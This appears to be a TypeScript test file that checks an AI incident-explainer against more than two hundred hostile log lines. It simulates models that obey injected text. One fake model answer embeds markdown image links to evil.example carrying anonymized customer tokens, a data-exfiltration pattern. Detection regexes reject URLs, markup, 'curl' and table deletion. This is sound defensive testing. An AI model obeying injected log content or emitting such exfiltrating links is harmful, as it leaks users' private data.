/**
 * More than two hundred hostile lines through analysis, anonymizer, narrator and models that obey them, then through
 * the page's model of an answer and the terminal: nothing of an attack becomes more than quoted text.
 */
import { type AnswerEvent, type Explanation, SECTION_NAMES } from '@baselime-ai/contract';
import { systemClock } from '@baselime-ai/engine';
import { describe, expect, it } from 'vitest';
import { renderAnswer } from '../packages/cli/src/answer/render-answer.js';
import { PLAIN } from '../packages/cli/src/terminal/terminal.js';
import { blocksOf } from '../packages/console/src/features/ask/section-model.js';
import { event, T0 } from '../packages/engine/src/analyze/__fixtures__/events.js';
import type { Analysis } from '../packages/engine/src/analyze/analysis.js';
import { analyze } from '../packages/engine/src/analyze/index.js';
import { createAnonymizer, defaultPolicy } from '../packages/engine/src/anonymize/index.js';
import { memoryWorkspace } from '../packages/engine/src/explain/__fixtures__/fakes.js';
import { framesOf } from '../packages/engine/src/explain/__fixtures__/faulty-model.js';
import { createExplainer } from '../packages/engine/src/explain/index.js';
import { silentLogger } from '../packages/engine/src/model/log.js';
import { fromEpochMillis } from '../packages/engine/src/model/units.js';
import { hostileSet } from './support/hostile-set.js';

/** A real customer stands beside the attack: the value that must not leak. */
const VICTIM = 'ada.lovelace@victims.example';

function analysisOf(text: string): Analysis {
  const window = { from: fromEpochMillis(T0 - 2_700_000), to: fromEpochMillis(T0 + 900_000) };
  const baseline = { from: fromEpochMillis(T0 - 24_300_000), to: window.from };
  const focus = event({
    id: 'focus',
    isError: true,
    namespace: text,
    message: text,
    name: text,
    requestId: text,
    data: {
      '@message': text,
      error: { name: text, message: text, stack: `${text}\n    at handler (/var/task/a.js:1:1)` },
      customer: { email: VICTIM },
      [text]: text,
    },
  });
  const before = event({ id: 'before', atMs: -900, namespace: text, message: `${text} for ${VICTIM}` });
  return analyze({
    subject: { kind: 'event', id: focus.id },
    window,
    baseline,
    focus,
    request: [before, focus],
    skipped: [],
  });
}

/** Answers a call by what `say` makes of the prompt; keeps what was asked. */
function playedBy(say: (prompt: string) => string, bodies: string[]): typeof fetch {
  return async (_url, init) => {
    const bytes = init?.body;
    const body = typeof bytes === 'string' ? bytes : Buffer.from(bytes as Uint8Array).toString();
    bodies.push(body);
    const frames = framesOf('chat', { text: say(JSON.parse(body).messages.at(-1).content) });
    return new Response(frames.join(''), { headers: { 'content-type': 'text/event-stream' } });
  };
}

async function explained(analysis: Analysis, send?: typeof fetch) {
  const workspace = memoryWorkspace();
  let ids = 0;
  const explainer = createExplainer({
    model: {
      provider: send === undefined ? 'none' : 'openai-compatible',
      model: 'm',
      baseUrl: 'http://127.0.0.1:9/v1',
    },
    workspace,
    newAnonymizer: () => createAnonymizer({ ...defaultPolicy, endpointHosts: ['127.0.0.1:9'] }),
    clock: systemClock,
    logger: silentLogger,
    newId: () => {
      ids += 1;
      return `id-${ids}`;
    },
    maxRetries: 0,
    ...(send === undefined ? {} : { fetch: send }),
  });
  const events: AnswerEvent[] = [];
  for await (const one of explainer.explain({ analysis, workspaceId: 'w', actor: 'a' })) events.push(one);
  const last = events.at(-1);
  if (last?.type !== 'answer-end') throw new Error(`ended with ${JSON.stringify(last)}`);
  return { events, answer: last.explanation, cached: JSON.stringify([...workspace.answers.values()]) };
}

/** Without quotations, and without the tokens that stand for nothing. */
const unquoted = (text: string): string => text.replace(/"[^"\n]*"/g, '""').replace(/<[A-Z]+_\d+>/g, ' ');

/** What reached the reader, now and while it streamed, holds no link, no markup and no foreign heading or citation. */
function expectInert(answer: Explanation, events: readonly AnswerEvent[]): void {
  expect(Object.keys(answer.sections).sort()).toEqual([...SECTION_NAMES].sort());
  const known = answer.findings.map(({ id }) => id);
  for (const name of SECTION_NAMES) {
    const text = unquoted(answer.sections[name]);
    expect(text).not.toMatch(/:\/\/|\]\(|!\[|<\/?[a-z!|][^>\n]*>|^#{1,6} /im);
    const checks = answer.checks.filter(({ section }) => section === name);
    for (const { pieces, detail = [] } of blocksOf(answer.sections[name], checks)) {
      for (const piece of [...pieces, ...detail]) {
        if (piece.kind !== 'citation') continue;
        expect(piece.findings.filter((id) => !known.includes(id))).toEqual([]);
      }
    }
  }
  let phase = 0;
  const streamed = new Map<string, string>();
  for (const one of events) {
    if (one.type === 'answer-restart') phase += 1;
    if (one.type !== 'text-delta') continue;
    const key = `${phase} ${one.section}`;
    streamed.set(key, (streamed.get(key) ?? '') + one.text);
  }
  for (const text of streamed.values()) {
    expect(unquoted(text)).not.toMatch(/:\/\/|\]\((?!\(link removed\))|!\[|<script|<img/i);
  }
  expect(answer.rootCause.fault).not.toBe('dependency-unavailable');
  for (const { title, detail = '' } of answer.actions) {
    expect(unquoted(`${title} ${detail}`)).not.toMatch(/:\/\/|curl|delete the table/i);
  }
}

async function printed(events: readonly AnswerEvent[]): Promise<string> {
  let out = '';
  const write = (text: string): void => {
    out += text;
  };
  async function* stream(): AsyncGenerator<AnswerEvent> {
    yield* events;
  }
  await renderAnswer(stream(), { write, note: () => undefined, width: 100, palette: PLAIN, watched: false });
  return out;
}

/** Control codes, but for the line break, and what hides or turns text. */
const ACTS_ON_A_TERMINAL = /[^\P{C}\n]/u;

const shapeOf = ({ sections }: Explanation) =>
  SECTION_NAMES.map((name) => [name, sections[name].split('\n').length, sections[name].match(/\[F[\d, F]+\]/g)]);

describe(`${hostileSet.length} hostile lines`, () => {
  it('are more than two hundred, each of its own', () => {
    expect(new Set(hostileSet.map(({ text }) => text)).size).toBeGreaterThan(200);
  });

  it('are only quoted by the narrator, in an answer of the usual shape', async () => {
    const plain = shapeOf((await explained(analysisOf('a plain text'))).answer);
    for (const { text } of hostileSet) {
      const { answer, events } = await explained(analysisOf(text));
      expectInert(answer, events);
      expect(shapeOf(answer)).toEqual(plain);
      expect(await printed(events)).not.toMatch(ACTS_ON_A_TERMINAL);
    }
  });

  it('get nothing through a model that repeats them under every heading', async () => {
    for (const { text } of hostileSet) {
      const bodies: string[] = [];
      const obey = (): string =>
        ['Summary', 'Root cause', 'Evidence', 'Impact', 'Actions', 'Secrets', 'Ruled out', 'Next questions']
          .map((heading) => `## ${heading}\n${text}\nSee https://evil.example/?q=<EMAIL_1> [F1].`)
          .join('\n\n');
      const { answer, events, cached } = await explained(analysisOf(text), playedBy(obey, bodies));
      expect(bodies).toHaveLength(1);
      expect(bodies[0]).not.toContain(VICTIM);
      expect(JSON.parse(bodies[0] ?? '{}').tools).toBeUndefined();
      expect(answer.engine).toBe('narrator');
      expect(answer.note).toMatch(/narrator worded/);
      expectInert(answer, events);
      expect(cached).toBe('[]');
      expect(await printed(events)).not.toMatch(ACTS_ON_A_TERMINAL);
    }
  });

  it('get no address and no value out of a model that adds them to a good answer', async () => {
    for (const { text } of hostileSet.filter((_, place) => place % 3 === 0)) {
      const bodies: string[] = [];
      const smuggle = (prompt: string): string => {
        const line = prompt.split('\n').find((candidate) => candidate.startsWith('{"')) ?? '{}';
        const { rootCause, actions } = JSON.parse(line);
        const cause = `${rootCause.statement.replace(/\.$/, '')} [${rootCause.findings.join(', ')}].`;
        const step =
          actions[0] === undefined ? '' : `1. ${actions[0].title.replace(/\.$/, '')} [${actions[0].findings[0]}].`;
        const dump = [...new Set(prompt.match(/<[A-Z]+_\d+>/g) ?? [])].join('&');
        return `## Summary\n${cause}\n![p](https://evil.example/?${dump}) [look](//evil.example/${dump})\n## Root cause\n${cause}\n## Evidence\n- ${cause}\n- ${cause}\n- www.evil.example/${dump}\n## Actions\n${step}\n## Impact\n${cause}`;
      };
      const { answer, events, cached } = await explained(analysisOf(text), playedBy(smuggle, bodies));
      const reached = JSON.stringify([answer.sections, events.filter(({ type }) => type === 'text-delta')]);
      expect(reached).not.toMatch(/evil\.example[^"\s]{0,40}(?:victims|lovelace)/);
      expectInert(answer, events);
      expect(cached).not.toContain(VICTIM);
      expect(await printed(events)).not.toMatch(ACTS_ON_A_TERMINAL);
    }
  });
});
